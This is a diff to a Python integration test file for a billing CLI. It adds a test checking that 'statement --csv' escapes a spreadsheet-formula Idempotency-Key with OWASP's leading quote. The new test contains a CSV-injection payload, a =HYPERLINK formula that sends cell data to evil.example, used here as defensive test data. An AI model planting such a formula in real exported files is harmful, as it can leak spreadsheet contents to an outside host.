@@ -3,6 +3,8 @@ the Redis, emulator and local DynamoDB that make serve starts by itself."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -113,9 +115,10 @@ def test_statement_and_grant_history_against_make_serve(served: Served) -> None:
     month = datetime.now(UTC).strftime("%Y-%m")
     assert len(cli(served, "statement", user, "--month", month)[1]["records"]) == 3
     code, out, _ = cli(served, "statement", user, "--csv", json_out=False)
-    rows = out.splitlines()
-    assert code == 0 and rows[0].startswith("request_id,at,route,plan,state,cost,kept")
-    assert rows[1].startswith("h-3,") and ",support-refunded,1,0,1,inv_h=1," in rows[1]
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    assert code == 0 and rows[0][:7] == ["request_id", "at", "route", "plan", "state", "cost",
+                                         "kept"]
+    assert rows[1][0] == "h-3" and rows[1][4:9] == ["support-refunded", "1", "0", "1", "inv_h=1"]
     code, out, _ = cli(served, "statement", user, json_out=False)
     assert code == 0 and out.startswith(f"statement of {user} from ")
     code, history, _ = cli(served, "grant", "history", user, "inv_h")
@@ -123,6 +126,20 @@ def test_statement_and_grant_history_against_make_serve(served: Served) -> None:
                           history["events"]] == [("created", 5, None), ("draw", 1, "h-3"),
                                                  ("return", 1, "h-3")]
     assert cli(served, "statement", user, "--month", "2026-13")[0] == 2
+
+
+def test_statement_csv_writes_an_idempotency_key_formula_as_text(served: Served) -> None:
+    """A charge whose Idempotency-Key reads as a spreadsheet formula is written to
+    ``statement --csv`` with a leading ``'`` (OWASP's escape) and reads back with the csv
+    module as that text."""
+    user = "csv-" + uuid.uuid4().hex[:8]
+    key = '=HYPERLINK("https://evil.example/?d="&A1,"refund")'
+    assert embed(served, user, key).status_code == 200
+    code, out, _ = cli(served, "statement", user, "--csv", json_out=False)
+    assert code == 0
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    assert [row[0] for row in rows] == ["request_id", "'" + key]
+    assert not out.splitlines()[1].startswith(("=", '"='))
 
 
 def test_readable_output_and_errors(served: Served) -> None:
